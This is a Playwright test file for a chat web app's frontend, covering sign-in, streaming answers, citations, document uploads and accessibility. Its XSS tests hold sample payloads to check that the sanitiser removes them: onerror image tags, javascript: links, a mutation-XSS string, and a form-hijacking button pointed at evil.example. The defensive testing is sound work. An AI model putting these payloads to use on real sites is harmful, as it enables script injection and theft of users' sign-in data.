"""The page as a person meets it, in Chromium, with the Content-Security-Policy the backend sends."""

from __future__ import annotations

import re
import time

import pytest
from playwright.sync_api import Browser, expect

from tests.frontend.conftest import Site, Visit, open_visit
from tests.frontend.fake_backend import PASSWORD

pytestmark = [pytest.mark.browser, pytest.mark.slow]


def test_signing_in_shows_the_chat_and_keeps_the_token_in_the_tab(visit: Visit) -> None:
    page = visit.sign_in()
    expect(page.locator("#user-name")).to_have_text("ada")
    expect(page.locator("#signin")).to_be_hidden()
    expect(page.locator("#prompt")).to_be_focused()
    expect(page.locator("#model option").first).to_have_text("hearth")
    assert page.evaluate("Object.keys(localStorage).length === 0 || !JSON.stringify(localStorage).includes('access')")
    assert visit.page.context.cookies() == []
    page.reload()
    expect(page.locator("#prompt")).to_be_visible()
    assert (visit.errors, visit.foreign) == ([], [])


@pytest.mark.parametrize(
    ("name", "password", "says"),
    [
        pytest.param("ada", "wrong", "User name or password is wrong", id="wrong-password"),
        pytest.param("busy", "x", "Try again in 30 s", id="throttled"),
        pytest.param("", "", "Enter your user name", id="empty"),
    ],
)
def test_failed_sign_in_says_what_to_do(visit: Visit, name: str, password: str, says: str) -> None:
    page = visit.page
    page.goto(visit.site.url)
    page.fill("#username", name)
    page.fill("#password", password)
    page.click("#signin-submit")
    expect(page.locator("#signin-error")).to_contain_text(says)
    expect(page.locator("#shell")).to_be_hidden()


def test_answer_streams_as_markdown_and_the_conversation_is_listed(visit: Visit) -> None:
    page = visit.sign_in()
    visit.ask("markdown please")
    answer = page.locator(".md")
    expect(answer.locator("h2")).to_have_text("Lists and emphasis")
    expect(answer.locator("td").nth(1)).to_have_text("12")
    expect(answer.locator("pre .hljs-keyword").first).to_have_text("def")
    expect(answer.locator("a")).to_have_attribute("rel", "noopener noreferrer")
    expect(page.locator(".row.is-current")).to_contain_text("markdown please")
    assert re.search(r"#/c/session-\d+$", page.url)
    page.reload()
    expect(page.locator(".question-text")).to_contain_text("markdown please")
    expect(page.locator(".md h2")).to_have_text("Lists and emphasis")
    assert (visit.errors, visit.foreign) == ([], [])


def test_only_the_new_message_is_sent_with_the_session(visit: Visit) -> None:
    page = visit.sign_in()
    visit.ask("first")
    page.select_option("#agent", "react")
    page.select_option("#model", "llama3.2:3b")
    visit.ask("second")
    first, second = visit.site.fake.asked
    assert "session_id" not in first
    assert "agent" not in first
    assert [message["content"] for message in second["messages"]] == ["second"]
    assert second["session_id"].startswith("session-")
    assert (second["agent"], second["model"]) == ("react", "llama3.2:3b")


def test_steps_show_inputs_and_outputs_as_they_happen(visit: Visit) -> None:
    visit.site.fake.pace = 0.02
    page = visit.sign_in()
    visit.ask("what does my document say", wait=False)
    steps = page.locator(".step")
    expect(page.locator('.step[data-status="running"]').first).to_be_visible()
    expect(steps).to_have_count(3)
    expect(page.locator(".sources")).to_be_visible()
    expect(page.locator(".way")).to_contain_text("It names a document")
    page.click(".steps > summary")
    expect(page.locator(".steps > summary")).to_contain_text("1 failed")
    page.click(".step:nth-child(2) summary")
    expect(steps.nth(1)).to_contain_text('"expression": "2340 * 17.5 / 100"')
    expect(steps.nth(1)).to_contain_text("409.500000000000")
    page.click(".step:nth-child(3) summary")
    expect(steps.nth(2)).to_contain_text("Web search is switched off")
    page.click(".thought > summary")
    expect(page.locator(".thinking-text")).to_contain_text("First I look for the notice period")


def test_citation_opens_the_passage_and_the_reader(visit: Visit) -> None:
    page = visit.sign_in()
    visit.ask("what does my document say")
    page.click("button.cite >> nth=0")
    panel = page.locator("#panel")
    expect(panel.locator("h2")).to_have_text("staff-handbook.pdf")
    expect(panel.locator("mark")).to_contain_text("Either side may end the employment")
    expect(panel.locator("mark")).to_contain_text("two weeks.")
    panel.get_by_label("Open in the reader").click()
    page.wait_for_url("**/files/doc-1/view#page=3")
    reader = page.locator("#viewer")
    expect(reader.locator("mark")).to_contain_text("Either side")
    reader.get_by_label("Next page").click()
    expect(reader.locator(".page-text")).to_contain_text("Page 4")
    assert page.url.endswith("#page=4")
    page.go_back()
    expect(page.locator(".md").first).to_be_visible()
    page.locator(".source").nth(1).click()
    expect(panel.locator("mark")).to_contain_text("Open leave is paid out")
    page.keyboard.press("Escape")
    expect(panel).to_be_hidden()
    expect(page.locator(".source").nth(1)).to_be_focused()


def test_document_address_opens_the_reader_after_signing_in(visit: Visit) -> None:
    page = visit.page
    page.goto(f"{visit.site.url}/files/doc-1/view#page=3")
    page.fill("#username", "ada")
    page.fill("#password", PASSWORD)
    page.click("#signin-submit")
    expect(page.locator("#viewer .page-text")).to_contain_text("Ending the employment")
    expect(page.locator("#viewer .page-of")).to_have_text("of 32")
    with page.expect_popup() as popup:
        page.locator("#viewer").get_by_text("Open original").click()
    assert popup.value is not None


def test_uploads_show_progress_result_and_failure(visit: Visit) -> None:
    visit.site.fake.pace = 0.02
    page = visit.sign_in()
    page.click("#documents-open")
    files = [("report.pdf", "application/pdf"), ("broken.pdf", "application/pdf"), ("tool.exe", "application/x-msdos")]
    page.set_input_files("#file-input", [{"name": n, "mimeType": m, "buffer": b"x" * 2000} for n, m in files])
    rows = page.locator(".document")
    expect(rows.filter(has_text="report.pdf").locator("progress")).to_be_visible()
    expect(rows.filter(has_text="report.pdf")).to_contain_text("32 pages")
    expect(rows.filter(has_text="broken.pdf")).to_contain_text("The file is damaged. Save it again")
    expect(rows.filter(has_text="tool.exe")).to_contain_text("This kind of file cannot be read")
    expect(page.locator(".chip").filter(has_text="report.pdf")).to_contain_text("ready")
    rows.filter(has_text="report.pdf").get_by_label("Delete report.pdf").click()
    page.locator("#dialog").get_by_text("Delete", exact=True).click()
    expect(rows.filter(has_text="report.pdf")).to_have_count(0)
    assert all(each["filename"] != "report.pdf" for each in visit.site.fake.documents.values())


def test_document_that_was_read_in_part_says_what_was_left_out(visit: Visit) -> None:
    visit.site.fake.pace = 0.002
    page = visit.sign_in()
    page.click("#documents-open")
    row = page.locator(".document").filter(has_text="measurements-2026.xlsx")
    expect(row.locator(".document-note")).to_have_text(
        "The sheet “Raw data” became no table: it has more than 200 columns. Its text can be searched."
    )
    expect(row.locator(".document-meta")).to_contain_text("40 passages")
    file = {"name": "partly.pdf", "mimeType": "application/pdf", "buffer": b"x" * 2000}
    page.set_input_files("#file-input", [file])
    note = page.locator(".document").filter(has_text="partly.pdf").locator(".document-note")
    expect(note).to_contain_text("hold only pictures")
    assert note.locator("img").count() == 0, "a note is text"
    failed = page.locator(".document").filter(has_text="scan-of-contract.pdf")
    assert failed.locator(".document-note").count() == 0


def test_models_that_only_make_embeddings_are_not_offered(visit: Visit) -> None:
    page = visit.sign_in()
    options = page.locator("select option, [role=option]")
    expect(options.filter(has_text="llama3.2:3b").first).to_be_attached()
    offered = options.all_inner_texts()
    assert not any("MiniLM" in each for each in offered)


def test_xss_1_nothing_in_an_answer_runs_or_loads(visit: Visit) -> None:
    visit.site.fake.pace = 0.002
    page = visit.sign_in()
    visit.ask("attack")
    answer = page.locator(".md")
    expect(answer).to_contain_text("The end of the attacks.")
    expect(answer).to_contain_text("<script>window.hacked = 'script'</script>")
    expect(answer.locator(".image-off").first).to_contain_text("on evil.example")
    assert answer.locator("script, img, iframe, svg, style, form, input, object, embed, link, base").count() == 0
    bad = """node => [...node.querySelectorAll('*')].flatMap(e => [...e.attributes])
        .filter(a => /^on|^style$|^src/.test(a.name) || /^\\s*(javascript|data|vbscript):/i.test(a.value)).length"""
    assert answer.evaluate(bad) == 0
    for button in answer.locator("button").all():
        button.click()
    assert page.evaluate("window.hacked") is None
    assert visit.foreign == []
    assert visit.errors == []


def test_xss_1_sanitiser_alone_stops_what_the_renderer_would_let_through(visit: Visit) -> None:
    page = visit.sign_in()
    survived = page.evaluate(
        """async () => {
          const { sanitise } = await import('/markdown.js');
          const raw = [
            '<img src=x onerror="window.hacked=1">',
            '<a href="javascript:window.hacked=1">x</a>',
            '<a href="/api/auth/logout">x</a>',
            '<a href="//evil.example">x</a>',
            '<svg><script>window.hacked=1</script></svg>',
            '<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>',
            '<p style="background:url(//evil.example)">x</p>',
            '<button form=signin-form formaction="//evil.example" id=prompt name=cookie>x</button>',
            '<p onclick=1 data-x=1>x</p>',
          ];
          const box = document.createElement('div');
          for (const each of raw) box.append(sanitise(each));
          document.body.append(box);
          await new Promise(done => setTimeout(done, 100));
          return [...box.querySelectorAll('*')].map(e => e.tagName + [...e.attributes].map(a => ' ' + a.name).join(''));
        }"""
    )
    assert {entry.split(" ")[0] for entry in survived} <= {"A", "P", "BUTTON", "TABLE", "TBODY"}
    assert not [entry for entry in survived if re.search(r" (on|style|src|id|name|form|data-x)", entry)]
    assert all(entry != "A href" for entry in survived)
    assert page.evaluate("window.hacked") is None
    assert visit.foreign == []


def test_xss_1_titles_file_names_and_errors_are_text(visit: Visit) -> None:
    attack = "<img src=https://evil.example/x onerror=window.hacked=1>"
    fake = visit.site.fake
    fake.conversations["old-0"]["title"] = attack
    fake.documents["doc-1"]["filename"] = attack
    fake.documents["doc-4"]["error"] = attack
    fake.health |= {"provider": "builtin", "message": attack}
    page = visit.sign_in()
    page.click("#documents-open")
    for place in ("#conversations", "#panel", "#banner", "#thread"):
        expect(page.locator(place)).to_contain_text(attack)
    page.click("[data-session=old-0]")
    expect(page.locator("#title")).to_have_text(attack)
    assert page.evaluate("window.hacked") is None
    assert page.locator("img").count() == 0
    assert visit.foreign == []


def test_stop_ends_the_answer_and_keeps_what_came(visit: Visit) -> None:
    visit.site.fake.pace = 0.02
    page = visit.sign_in()
    visit.ask("a long answer", wait=False)
    expect(page.locator(".md")).to_contain_text("Paragraph 0")
    page.fill("#prompt", "typed meanwhile")
    page.click("#stop")
    expect(page.locator(".problem")).to_contain_text("Stopped")
    expect(page.locator("#send")).to_be_visible()
    expect(page.locator("#prompt")).to_have_value("typed meanwhile")
    length = len(page.locator(".md").inner_text())
    page.wait_for_timeout(200)
    assert len(page.locator(".md").inner_text()) == length


def test_asking_again_adds_an_answer_without_showing_the_model_the_old_one(visit: Visit) -> None:
    page = visit.sign_in()
    visit.ask("one")
    visit.ask("two")
    page.locator(".answer").last.get_by_label("Ask again").click()
    expect(page.locator(".pager")).to_contain_text("2/2")
    expect(page.locator("#stop")).to_be_hidden()
    sent = [message["content"] for message in visit.site.fake.asked[-1]["messages"]]
    assert sent == ["one", "You said: one", "two"]
    page.get_by_label("Previous answer").click()
    expect(page.locator(".pager")).to_contain_text("1/2")
    page.reload()
    expect(page.locator(".pager")).to_contain_text("2/2")


@pytest.mark.parametrize(
    ("question", "says"),
    [
        pytest.param("please break off", "The model stopped in mid-answer", id="after-the-first-byte"),
        pytest.param("refuse this", "The model is busy. Try again in 7 s.", id="before-the-first-byte"),
    ],
)
def test_failed_answer_says_why_and_can_be_tried_again(visit: Visit, question: str, says: str) -> None:
    page = visit.sign_in()
    visit.ask(question)
    expect(page.locator(".problem")).to_contain_text(says)
    page.locator(".problem").get_by_text("Try again", exact=True).click()
    expect(page.locator(".pager")).to_contain_text("2/2")
    assert len(visit.site.fake.asked) == 2


def test_ended_session_returns_to_sign_in_and_keeps_the_typed_text(visit: Visit) -> None:
    page = visit.sign_in()
    visit.ask("hello")
    visit.site.fake.tokens.clear()
    visit.ask("a long and careful question", wait=False)
    expect(page.locator("#signin")).to_be_visible()
    expect(page.locator("#signin-lead")).to_contain_text("Your session has ended")
    page.fill("#password", PASSWORD)
    page.click("#signin-submit")
    expect(page.locator("#prompt")).to_have_value("a long and careful question")
    expect(page.locator(".question-text")).to_have_count(1)
    page.click("#signout")
    expect(page.locator("#signin")).to_be_visible()
    assert page.evaluate("sessionStorage.getItem('hearth.session')") is None


def test_server_away_is_shown_and_the_page_recovers_by_itself(visit: Visit) -> None:
    page = visit.sign_in()
    page.route("**/health", lambda route: route.abort())
    page.route("**/v1/chat/completions", lambda route: route.abort())
    visit.ask("anyone there?")
    expect(page.locator(".problem")).to_contain_text("Hearth cannot be reached")
    expect(page.locator("#banner")).to_contain_text("does not answer")
    page.unroute("**/health")
    page.unroute("**/v1/chat/completions")
    expect(page.locator("#banner")).to_be_hidden()
    page.locator(".problem").get_by_text("Try again", exact=True).click()
    expect(page.locator(".md")).to_contain_text("You said: anyone there?")


def test_banner_tells_when_the_built_in_model_answers(visit: Visit) -> None:
    visit.site.fake.health |= {"provider": "builtin", "message": "No Ollama reachable: the built-in model answers."}
    page = visit.sign_in()
    expect(page.locator("#banner")).to_contain_text("the built-in model answers")
    page.get_by_label("Hide this note").click()
    expect(page.locator("#banner")).to_be_hidden()


def test_conversations_are_searched_renamed_exported_and_deleted(visit: Visit) -> None:
    page = visit.sign_in()
    rows = page.locator(".row")
    expect(rows).to_have_count(7)
    page.fill("#conversation-search", "faiss")
    expect(rows).to_have_count(1)
    rows.first.hover()
    rows.first.get_by_role("button").click()
    page.get_by_role("menuitem", name="Rename").click()
    page.fill("#dialog-field", "Vectors & FAISS")
    page.keyboard.press("Enter")
    expect(rows.first).to_contain_text("Vectors & FAISS")
    rows.first.get_by_role("button").click()
    with page.expect_download() as download:
        page.get_by_role("menuitem", name="Export as Markdown").click()
    assert download.value.suggested_filename == "Vectors-FAISS.md"
    rows.first.get_by_role("button").click()
    page.get_by_role("menuitem", name="Delete").click()
    page.keyboard.press("Escape")
    expect(rows).to_have_count(1)
    rows.first.get_by_role("button").click()
    page.get_by_role("menuitem", name="Delete").click()
    page.locator("#dialog").get_by_text("Delete", exact=True).click()
    expect(page.locator("#conversations")).to_contain_text("Nothing found")
    assert "old-3" not in visit.site.fake.conversations


def test_another_conversation_can_be_read_while_an_answer_goes_on(visit: Visit) -> None:
    visit.site.fake.pace = 0.01
    page = visit.sign_in()
    visit.ask("a long answer", wait=False)
    expect(page.locator(".md")).to_contain_text("Paragraph 0")
    page.click("[data-session=old-2]")
    expect(page.locator(".md")).to_have_text(re.compile(r"Earlier answer\.\s*"))
    expect(page.locator("#send")).to_be_visible()
    page.go_back()
    expect(page.locator(".md")).to_contain_text("Paragraph 1")
    expect(page.locator("#stop")).to_be_visible()


def test_dark_follows_the_system_and_the_toggle_wins(browser: Browser, site: Site) -> None:
    for visit in open_visit(browser, site, color_scheme="dark"):
        page = visit.sign_in()
        background = "getComputedStyle(document.body).backgroundColor"
        dark = page.evaluate(background)
        assert dark == "rgb(25, 22, 20)"
        page.click("#theme-toggle")
        assert page.evaluate(background) == "rgb(250, 246, 240)"
        page.reload()
        assert page.evaluate(background) == "rgb(250, 246, 240)"


def test_narrow_phone_never_scrolls_sideways(browser: Browser, site: Site) -> None:
    for visit in open_visit(browser, site, viewport={"width": 320, "height": 640}, has_touch=True, is_mobile=True):
        page = visit.page
        fits = "document.documentElement.scrollWidth <= 320"
        page.goto(site.url)
        assert page.evaluate(fits)
        visit.sign_in()
        assert page.evaluate(fits)
        page.fill("#prompt", "what does my document say")
        page.tap("#send")
        expect(page.locator(".sources")).to_be_visible()
        page.tap(".steps > summary")
        assert page.evaluate(fits)
        page.fill("#prompt", "markdown")
        page.tap("#send")
        expect(page.locator(".code-copy")).to_be_visible()
        assert page.evaluate(fits)
        page.tap("#sidebar-open")
        expect(page.locator("#new-chat")).to_be_in_viewport()
        page.tap("#documents-open")
        expect(page.locator("#panel h2")).to_have_text("Documents")
        assert page.evaluate(fits)


def test_whole_way_by_keyboard(visit: Visit) -> None:
    page = visit.sign_in()
    page.keyboard.type("first line")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("second line about a document")
    assert page.locator("#prompt").input_value() == "first line\nsecond line about a document"
    page.keyboard.press("Enter")
    expect(page.locator(".sources")).to_be_visible()
    expect(page.locator("#prompt")).to_be_focused()
    for _ in range(30):
        page.keyboard.press("Shift+Tab")
        if page.evaluate("document.activeElement.matches('button.cite')"):
            break
    assert page.evaluate("document.activeElement.matches('button.cite')")
    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert outline == "solid"
    page.keyboard.press("Enter")
    expect(page.locator("#panel mark")).to_be_visible()
    page.keyboard.press("Escape")
    assert page.evaluate("document.activeElement.matches('button.cite')")


def test_reader_who_scrolled_up_is_left_alone(visit: Visit) -> None:
    visit.site.fake.pace = 0.004
    page = visit.sign_in()
    visit.ask("a long answer", wait=False)
    expect(page.locator(".md")).to_contain_text("Paragraph 12")
    page.evaluate("document.querySelector('#scroller').scrollTop = 0")
    expect(page.locator("#to-latest")).to_be_visible()
    page.wait_for_timeout(300)
    assert page.evaluate("document.querySelector('#scroller').scrollTop") == 0
    page.click("#to-latest")
    expect(page.locator("#to-latest")).to_be_hidden()


def test_every_control_has_a_name(visit: Visit) -> None:
    page = visit.sign_in()
    visit.ask("what does my document say")
    page.click("#documents-open")
    nameless = """() => [...document.querySelectorAll('button, a[href], input, select, textarea')]
        .filter(e => e.checkVisibility() && !(e.getAttribute('aria-label') || e.textContent.trim() || e.labels?.length))
        .map(e => e.outerHTML)"""
    assert page.evaluate(nameless) == []
    assert page.locator(".md[aria-live=polite][aria-busy=false]").count() == 1


def test_stopping_reaches_the_server(visit: Visit) -> None:
    visit.site.fake.pace = 0.03
    page = visit.sign_in()
    visit.ask("a long answer", wait=False)
    expect(page.locator(".md")).to_contain_text("Paragraph 0")
    page.keyboard.press("Escape")
    expect(page.locator(".problem")).to_contain_text("Stopped")
    deadline = time.monotonic() + 3
    stored = list(visit.site.fake.conversations.values())[-1]["messages"]
    while len(stored) < 2 and time.monotonic() < deadline:
        time.sleep(0.02)
    assert stored[-1]["role"] == "assistant"
    assert len(stored[-1]["content"]) < 20_000
